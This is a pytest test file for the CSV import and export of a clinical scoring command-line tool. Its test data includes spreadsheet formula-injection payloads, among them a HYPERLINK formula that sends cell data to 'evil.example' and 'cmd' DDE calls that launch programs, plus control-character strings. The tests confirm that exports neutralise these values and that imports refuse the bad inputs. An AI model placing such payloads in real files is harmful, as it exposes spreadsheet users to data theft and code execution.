"""Issue 17, findings 4, 5, 7 (import), 8, 9, 10 and 17, through the real command line:
spreadsheet formulas in exports, events imported twice, files that are not files, text of any
length or with control characters, a header of 100,000 columns, and the messages that said the
wrong thing."""

from __future__ import annotations

import csv
import io
import os
import time
from pathlib import Path

import pytest

from bedside.cli import main
from bedside.interchange.csv.spreadsheet_cells import FORMULA_STARTS
from bedside.store import Store, events, patients, visits
from tests.interchange.test_csv_import_export import HEADER, ITEMS, counts, write

FORMULAS = {
    "patient_id": "=1+1",
    "family_name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "given_name": "+cmd|' /C calc'!A0",
    "examiner": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "-2+3",
}
TEXT_COLUMNS = ("patient_id", "family_name", "given_name", "examiner", "notes", "label")


def formula_files(tmp_path: Path) -> tuple[Path, Path]:
    f = FORMULAS
    visits_csv = write(tmp_path, (
        f"{HEADER},{ITEMS}\n"
        + ",".join(csv_cells([f["patient_id"], f["family_name"], f["given_name"],
                              "1958-03-02", "female", "2023-01-15", "bulbar", "2023-06-01",
                              "2023-07-01", f["examiner"], f["notes"]]))
        + ",3,4,4,4,4,4,4,3,3,4,4,4\n"
        + ",".join(csv_cells([f["patient_id"], "", "", "", "", "", "", "", "2023-10-01",
                              "\tDr Tab", "''=quoted in the file"]))
        + ",3,3,3,4,3,4,4,3,2,4,4,4\n"), "formula-visits.csv")
    events_csv = write(tmp_path, "patient_id,event_date,kind,label\n" + ",".join(csv_cells(
        [f["patient_id"], "2023-08-01", "procedure", "=cmd|' /C notepad'!'A1'"])) + "\n",
        "formula-events.csv")
    return visits_csv, events_csv


def csv_cells(values: list[str]) -> list[str]:
    """Each value as a quoted CSV cell (commas, quotes and tabs kept)."""
    return ['"' + v.replace('"', '""') + '"' for v in values]


def exported(db: Path, tmp_path: Path, name: str, *flags: str) -> Path:
    out = tmp_path / name
    assert main(["--db", str(db), "export", *flags, "-o", str(out)]) == 0
    return out


def test_exports_are_safe_in_a_spreadsheet_and_round_trip_byte_for_byte(tmp_path, capsys):
    first = tmp_path / "first.sqlite3"
    visits_csv, events_csv = formula_files(tmp_path)
    assert main(["--db", str(first), "import", str(visits_csv), str(events_csv)]) == 0
    with Store.open(first) as s:  # stored as typed: the guard is only in the file
        p = patients.get(s, FORMULAS["patient_id"])
        assert (p.family_name, p.given_name) == (FORMULAS["family_name"],
                                                 FORMULAS["given_name"])
        got = visits.for_patient(s, p.patient_id)
        assert [(v.examiner, v.notes) for v in got] == [
            (FORMULAS["examiner"], FORMULAS["notes"]), ("Dr Tab", "'=quoted in the file")]
        assert [e.label for e in events.for_patient(s, p.patient_id)] == [
            "=cmd|' /C notepad'!'A1'"]
    one = exported(first, tmp_path, "one.csv")
    one_events = exported(first, tmp_path, "one-events.csv", "--events")
    for path in (one, one_events):
        for row in csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))):
            for column in TEXT_COLUMNS:
                cell = row.get(column) or ""
                assert cell[:1] not in FORMULA_STARTS, (path.name, column, cell)
            for column, cell in row.items():  # numbers and dates are never prefixed
                if column not in TEXT_COLUMNS:
                    assert not cell.startswith("'"), (column, cell)
    text = one.read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in text and "''=quoted in the file" in text
    second = tmp_path / "second.sqlite3"
    assert main(["--db", str(second), "import", str(one_events), str(one)]) == 0
    assert exported(second, tmp_path, "two.csv").read_bytes() == one.read_bytes()
    assert exported(second, tmp_path, "two-events.csv", "--events").read_bytes() == \
        one_events.read_bytes()


def test_an_events_file_imported_twice_stores_each_event_once(db_path, tmp_path, capsys):
    visits_csv, events_csv = formula_files(tmp_path)
    twice = write(tmp_path, events_csv.read_text(encoding="utf-8")
                  + events_csv.read_text(encoding="utf-8").split("\n", 1)[1], "twice.csv")
    assert main(["import", str(visits_csv), str(twice)]) == 0
    assert "imported 1 event (1 already there)" in capsys.readouterr().out
    before = counts(db_path)
    assert main(["import", str(events_csv)]) == 0
    assert "imported 0 events (1 already there)" in capsys.readouterr().out
    assert counts(db_path) == before == (1, 2, 1)


def test_an_events_export_imports_into_an_empty_database(tmp_path, capsys):
    source = tmp_path / "source.sqlite3"
    assert main(["--db", str(source), "demo-data", "--patients", "3"]) == 0
    all_visits = exported(source, tmp_path, "visits.csv")
    all_events = exported(source, tmp_path, "events.csv", "--events")
    empty = tmp_path / "empty.sqlite3"  # events named first: visits are imported first
    assert main(["--db", str(empty), "import", str(all_events), str(all_visits)]) == 0
    assert exported(empty, tmp_path, "again.csv", "--events").read_bytes() == \
        all_events.read_bytes()
    no_events = tmp_path / "none.sqlite3"
    assert main(["--db", str(no_events), "import", str(all_visits)]) == 0
    header_only = exported(no_events, tmp_path, "no-events.csv", "--events")
    assert header_only.read_text(encoding="utf-8").count("\n") == 1
    fresh = tmp_path / "fresh.sqlite3"
    capsys.readouterr()
    assert main(["--db", str(fresh), "import", str(header_only)]) == 0
    assert "imported 0 events" in capsys.readouterr().out


def test_a_duplicate_event_is_not_added_twice_from_a_screen_either(db_path, tmp_path):
    visits_csv, events_csv = formula_files(tmp_path)
    assert main(["import", str(visits_csv), str(events_csv)]) == 0
    with Store.open(db_path) as s:
        [e] = events.for_patient(s, FORMULAS["patient_id"])
        with pytest.raises(Exception, match="already has this event"):
            events.add(s, events.Event(e.patient_id, e.event_date, e.kind, e.label))
        assert len(events.for_patient(s, e.patient_id)) == 1


LIMITED = {  # column -> a value one character over its limit
    "patient_id": "P" * 65, "family_name": "F" * 3000, "given_name": "G" * 101,
    "examiner": "E" * 101, "notes": "N" * 4001,
}


@pytest.mark.parametrize("column", list(LIMITED))
def test_text_longer_than_its_limit_is_refused(column, db_path, tmp_path, capsys):
    values = {"patient_id": "P1", "family_name": "Doe", "given_name": "Jane",
              "examiner": "Dr K", "notes": "", column: LIMITED[column]}
    path = write(tmp_path, "patient_id,family_name,given_name,visit_date,examiner,notes,"
                 "Q1_Speech\n" + ",".join([values["patient_id"], values["family_name"],
                                           values["given_name"], "2024-01-02",
                                           values["examiner"], values["notes"], "4"]) + "\n")
    assert main(["import", str(path)]) == 2
    err = capsys.readouterr().err
    assert f"visits.csv:2: {column}=" in err and "characters (this has" in err
    assert max(map(len, err.splitlines())) < 300  # the value is quoted cut short
    assert not db_path.exists()  # a failed first import leaves no database


def test_an_event_label_longer_than_its_limit_is_refused(db_path, tmp_path, capsys):
    visits_csv, _ = formula_files(tmp_path)
    assert main(["import", str(visits_csv)]) == 0
    label = write(tmp_path, f"patient_id,event_date,kind,label\n\"{FORMULAS['patient_id']}\","
                  f"2023-08-01,other,{'L' * 201}\n", "events.csv")
    assert main(["import", str(label)]) == 2
    assert "events.csv:2: label=" in capsys.readouterr().err


@pytest.mark.parametrize(("column", "value"), [
    ("patient_id", "X\x001"), ("patient_id", "P\u200b1"), ("family_name", "Do\x1b[31me"),
    ("given_name", "Jane\u202e"), ("examiner", "Dr\x07K"), ("patient_id", "bob\radmin"),
])
def test_control_and_invisible_characters_are_refused(column, value, db_path, tmp_path,
                                                      capsys):
    values = {"patient_id": "X1", "family_name": "Doe", "given_name": "Jane", "examiner": "K",
              column: value}
    path = write(tmp_path, "patient_id,family_name,given_name,visit_date,examiner,Q1_Speech\n"
                 + ",".join('"' + values[c] + '"' for c in ("patient_id", "family_name",
                                                            "given_name"))
                 + f",2024-01-02,\"{values['examiner']}\",4\n")
    assert main(["import", str(path)]) == 2
    err = capsys.readouterr().err
    assert "invisible or control character" in err and f"{column}=" in err
    assert "\x1b" not in err and "\x00" not in err and "\x07" not in err
    assert not db_path.exists()


def test_a_header_of_100000_columns_is_refused_at_once(db_path, tmp_path, capsys):
    path = write(tmp_path, ",".join(f"c{n}" for n in range(100_000)) + "\n1\n")
    start = time.monotonic()
    assert main(["import", str(path)]) == 2
    assert time.monotonic() - start < 5
    err = capsys.readouterr().err
    assert "unknown columns c0, c1" in err and "and 99990 more" in err and len(err) < 1000
    dupes = write(tmp_path, ",".join(f"c{n}" for n in range(100_000)) + ",c5\n1\n", "d.csv")
    start = time.monotonic()
    assert main(["import", str(dupes)]) == 2
    assert time.monotonic() - start < 5
    assert "column 'c5' appears twice" in capsys.readouterr().err


@pytest.mark.parametrize("path, why", [
    ("/dev/zero", "is a device, not a file"), ("/dev/null", "is a device, not a file"),
    (".", "is a folder"),
])
def test_importing_something_that_is_not_a_file_is_one_line(path, why, db_path, capsys):
    start = time.monotonic()
    assert main(["import", path]) == 2
    assert time.monotonic() - start < 5
    err = capsys.readouterr().err
    assert why in err and len(err.strip().splitlines()) == 2  # the problem, nothing imported
    assert not db_path.exists()


@pytest.mark.parametrize("content, why", [
    (b"\xff\xfe not utf-8", "not UTF-8"), (b"x" * 5000, "longer than 4096 bytes"),
])
def test_a_password_file_that_is_no_password_file_is_one_line(content, why, tmp_path,
                                                              monkeypatch, capsys):
    monkeypatch.setenv("BEDSIDE_DB", str(tmp_path / "b.sqlite3"))
    monkeypatch.setenv("BEDSIDE_USER", "alice")
    pw = tmp_path / "pw"
    pw.write_bytes(content)
    monkeypatch.setenv("BEDSIDE_PASSWORD_FILE", str(pw))
    assert main(["accounts", "add", "alice"]) == 2
    err = capsys.readouterr().err
    assert why in err and len(err.strip().splitlines()) == 1
    assert not (tmp_path / "b.sqlite3").exists()


@pytest.mark.parametrize("special", ["/dev/zero", "fifo", "folder"])
def test_a_password_file_that_is_a_device_or_pipe_is_refused_at_once(special, tmp_path,
                                                                     monkeypatch, capsys):
    """/dev/zero took 9 GB of memory, a FIFO without a writer hung forever."""
    target = {"/dev/zero": "/dev/zero", "fifo": str(tmp_path / "fifo"),
              "folder": str(tmp_path)}[special]
    if special == "fifo":
        os.mkfifo(target)
    monkeypatch.setenv("BEDSIDE_DB", str(tmp_path / "b.sqlite3"))
    monkeypatch.setenv("BEDSIDE_USER", "alice")
    monkeypatch.setenv("BEDSIDE_PASSWORD_FILE", target)
    start = time.monotonic()
    assert main(["accounts", "add", "alice"]) == 2
    assert time.monotonic() - start < 5
    err = capsys.readouterr().err
    assert "BEDSIDE_PASSWORD_FILE=" in err and len(err.strip().splitlines()) == 1
    assert ("not a regular file" in err or "is a folder" in err)


@pytest.mark.parametrize("row, message", [
    ("P1,2023-02-29,4,4,4,", "visit_date=2023-02-29: no such day: February 2023 has 28 days"),
    ("P1,2024-04-31,4,4,4,", "visit_date=2024-04-31: no such day: April 2024 has 30 days"),
    ("P1,2024-01-02,04,4,4,", "Q1_Speech=04: write the score as the single digit 4 (0-4)"),
    ("P1,2024-01-02,4.0,4,4,", "Q1_Speech=4.0: write the score as the single digit 4 (0-4)"),
    ("P1,2024-01-02,4,4,4,12.0", "bulbar_subscore=12.0: write it as the whole number 12, "
                                 "which the items add up to"),
    ("P1,2024-01-02,4,4,4,11", "bulbar_subscore=11: disagrees with the items (the items add "
                               "up to 12)"),
])
def test_messages_say_what_is_wrong(row, message, db_path, tmp_path, capsys):
    path = write(tmp_path, "patient_id,visit_date,Q1_Speech,Q2_Salivation,Q3_Swallowing,"
                 "bulbar_subscore\n" + row + "\n")
    assert main(["import", str(path)]) == 2
    assert f"visits.csv:2: {message}" in capsys.readouterr().err
